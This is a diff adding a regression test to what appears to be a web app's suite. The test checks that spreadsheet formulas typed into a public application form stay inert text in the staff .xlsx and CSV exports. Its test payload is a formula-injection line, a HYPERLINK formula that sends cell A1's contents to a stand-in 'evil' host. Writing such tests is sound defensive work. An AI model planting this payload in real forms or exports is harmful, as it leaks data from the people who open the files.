@@ -87,3 +87,24 @@ def test_export_needs_a_login_and_a_known_format(client, handler, ledger):
     assert client.get("/staff/applications/export.xlsx").status_code == 302
     client.force_login(handler)
     assert client.get("/staff/applications/export.pdf").status_code == 404
+
+
+def test_a_formula_typed_into_the_public_form_stays_text_in_both_exports(client, luan_org, handler):
+    """Defect: the name =HYPERLINK(…) became a live formula in the .xlsx and a raw formula in the CSV."""
+    from tests.applications.conftest import person
+
+    payload = '=HYPERLINK("http://evil/?x="&A1,"点我")'
+    form = {"organization": luan_org.pk, **person(applicant_name=payload, info_title="@SUM(1+1)")}
+    assert client.post("/applications/new/?jurisdiction=341500", form).status_code == 200
+    client.force_login(handler)
+    ws = openpyxl.load_workbook(io.BytesIO(client.get("/staff/applications/export.xlsx").content)).active
+    headers = [c.value for c in ws[1]]
+    name = ws.cell(row=2, column=headers.index("申请人") + 1)
+    assert name.data_type == "s"
+    assert name.value == "'" + payload
+    assert ws.cell(row=2, column=headers.index("所需信息") + 1).value == "'@SUM(1+1)"
+    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    text = client.get("/staff/applications/export.csv").content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[1][rows[0].index("申请人")] == "'" + payload
+    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
